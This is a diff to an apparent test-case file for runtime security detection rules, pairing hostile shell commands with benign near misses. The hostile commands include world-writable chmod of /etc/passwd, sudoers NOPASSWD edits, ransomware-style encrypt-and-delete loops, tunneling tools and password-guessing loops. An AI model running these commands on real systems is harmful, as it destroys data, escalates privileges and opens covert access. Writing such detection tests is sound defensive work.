@@ -73,22 +73,34 @@ CASES: list[PackCase] = [
                 "python os.chmod 0o777 on /etc/passwd (syscall)",
                 chmod_call("/etc/passwd", RWX_ALL, "python3 -c import os; os.chmod('/etc/passwd', 0o777)"),
             ),
-            v("fchmod of /usr/bin/sudo world-writable", chmod_call("/usr/bin/python3", RW_ALL, "perl", "fchmod")),
+            v(
+                "fchmod of /usr/bin/sudo world-writable",
+                chmod_call("/usr/bin/python3", RW_ALL, "perl", "fchmod"),
+            ),
             v("busybox chmod -R on /var/log", exec_("busybox chmod -R 777 /var/log")),
         ],
         near_misses=[
             v("chmod +x of an app script", exec_("chmod +x /app/run.sh")),
             v("chmod 755 of a file in tmp", exec_("chmod 755 /tmp/tool")),
             v("chmod 600 of a key", exec_("chmod 600 /root/.ssh/id_rsa")),
-            v("chmod -R 777 by the entrypoint", exec_("chmod -R 777 /var/www/data", ancestors=UNDER_ENTRYPOINT)),
+            v(
+                "chmod -R 777 by the entrypoint",
+                exec_("chmod -R 777 /var/www/data", ancestors=UNDER_ENTRYPOINT),
+            ),
             v("lsattr only", exec_("lsattr /etc/passwd")),
             v("getfacl only", exec_("getfacl /etc/passwd")),
             v("chown root:root of a tmp file", exec_("chown root:root /tmp/a.txt")),
             v("chown of the app dir", exec_("chown -R app:app /srv/app")),
             v("chmod 1777 syscall on /tmp", chmod_call("/tmp", TMP_STICKY, "chmod 1777 /tmp")),
-            v("chmod 755 syscall on /usr/local/bin/tool", chmod_call("/usr/local/bin/tool", R755, "chmod 755 /usr/local/bin/tool")),
+            v(
+                "chmod 755 syscall on /usr/local/bin/tool",
+                chmod_call("/usr/local/bin/tool", R755, "chmod 755 /usr/local/bin/tool"),
+            ),
             v("on the host", exec_("chattr -i /etc/resolv.conf", where=HOST)),
-            v("package manager", exec_("chmod 0777 /var/lib/dpkg/tmp", ancestors=["dpkg", "apt-get", "bash"])),
+            v(
+                "package manager",
+                exec_("chmod 0777 /var/lib/dpkg/tmp", ancestors=["dpkg", "apt-get", "bash"]),
+            ),
         ],
     ),
     PackCase(
@@ -107,7 +119,10 @@ CASES: list[PackCase] = [
             v("userdel", exec_("userdel -r app")),
             v("deluser", exec_("deluser app")),
             v("sudo passwd -l (sudo missing) on sh -c", sh("sudo passwd -l app")),
-            v("usermod --lock as pid 1 (bash)", pid1("usermod --lock art; usermod --unlock art", shell="bash")),
+            v(
+                "usermod --lock as pid 1 (bash)",
+                pid1("usermod --lock art; usermod --unlock art", shell="bash"),
+            ),
             v("echo root:pw | chpasswd on the shell line", sh("echo root:toor | chpasswd")),
         ],
         near_misses=[
@@ -153,12 +168,23 @@ CASES: list[PackCase] = [
             ),
             v(
                 "for loop of gpg -c (bash -c)",
-                sh('for f in /srv/data/*; do gpg --batch --passphrase x -c "$f"; rm "$f"; done', shell="bash"),
+                sh(
+                    'for f in /srv/data/*; do gpg --batch --passphrase x -c "$f"; rm "$f"; done', shell="bash"
+                ),
             ),
             v("find | xargs ccencrypt as pid 1", pid1("find /home -type f | xargs ccencrypt -K pw")),
-            v("while read loop openssl", sh("find / -name '*.db' | while read f; do openssl aes-256-cbc -in $f -out $f.x -k k; done")),
-            v("mv to .locked", rename("/srv/data/a.db", "/srv/data/a.db.locked", "mv /srv/data/a.db /srv/data/a.db.locked")),
-            v("python renames to .encrypted", rename("/home/u/r.pdf", "/home/u/r.pdf.encrypted", "python3 enc.py")),
+            v(
+                "while read loop openssl",
+                sh("find / -name '*.db' | while read f; do openssl aes-256-cbc -in $f -out $f.x -k k; done"),
+            ),
+            v(
+                "mv to .locked",
+                rename("/srv/data/a.db", "/srv/data/a.db.locked", "mv /srv/data/a.db /srv/data/a.db.locked"),
+            ),
+            v(
+                "python renames to .encrypted",
+                rename("/home/u/r.pdf", "/home/u/r.pdf.encrypted", "python3 enc.py"),
+            ),
         ],
         near_misses=[
             v("single openssl decrypt in a loop", sh("for f in *.enc; do echo $f; done")),
@@ -176,8 +202,14 @@ CASES: list[PackCase] = [
             v("socat relay", exec_("socat TCP-LISTEN:8443,fork TCP:10.0.0.9:443")),
             v("ncat --broker", exec_("ncat -l 9000 --broker")),
             v("chisel client", exec_("chisel client 203.0.113.7:8000 R:socks")),
-            v("cloudflared on sh -c (missing tool)", sh("nohup ./cloudflared tunnel --url localhost:8080 >/dev/null 2>&1 &")),
-            v("code tunnel as pid 1", pid1("nohup code tunnel --accept-server-license-terms >/dev/null 2>&1 &")),
+            v(
+                "cloudflared on sh -c (missing tool)",
+                sh("nohup ./cloudflared tunnel --url localhost:8080 >/dev/null 2>&1 &"),
+            ),
+            v(
+                "code tunnel as pid 1",
+                pid1("nohup code tunnel --accept-server-license-terms >/dev/null 2>&1 &"),
+            ),
             v("devtunnel host", sh("/opt/devtunnel host -p 8080 &")),
             v("tor service start", sh("sudo systemctl start tor")),
             v("proxychains", exec_("proxychains4 curl http://10.0.0.8/")),
@@ -210,7 +242,10 @@ CASES: list[PackCase] = [
                     shell="bash",
                 ),
             ),
-            v("su guessing loop as pid 1", pid1("for p in 123456 password toor; do echo $p | su root -c id; done")),
+            v(
+                "su guessing loop as pid 1",
+                pid1("for p in 123456 password toor; do echo $p | su root -c id; done"),
+            ),
             v("sudo -S spraying", sh("while read p; do echo $p | sudo -S -u root id; done < /tmp/pw")),
             v("hydra missing, on the shell line", sh("hydra -L users.txt -p Spring2026 ssh://10.0.0.0/24")),
         ],
@@ -227,9 +262,15 @@ CASES: list[PackCase] = [
             v("sudo -n true", exec_("sudo -n true")),
             v("sudo -l on sh -c (sudo missing)", sh("sudo -l ; sudo cat /etc/sudoers")),
             v("echo pw | sudo -S as pid 1", pid1("echo hunter2 | sudo -S id", shell="bash")),
-            v("sed timestamp_timeout", exec_("sed -i s/env_reset.*$/env_reset,timestamp_timeout=-1/ /etc/sudoers")),
+            v(
+                "sed timestamp_timeout",
+                exec_("sed -i s/env_reset.*$/env_reset,timestamp_timeout=-1/ /etc/sudoers"),
+            ),
             v("tty_tickets on sh -c", sh('sudo sh -c "echo Defaults !tty_tickets >> /etc/sudoers"')),
-            v("NOPASSWD appended with tee", exec_("tee -a /etc/sudoers.d/app", fields={"proc.args": "-a /etc/sudoers.d/app NOPASSWD"})),
+            v(
+                "NOPASSWD appended with tee",
+                exec_("tee -a /etc/sudoers.d/app", fields={"proc.args": "-a /etc/sudoers.d/app NOPASSWD"}),
+            ),
         ],
         near_misses=[
             v("sudo to run a command", exec_("sudo apt-get update")),
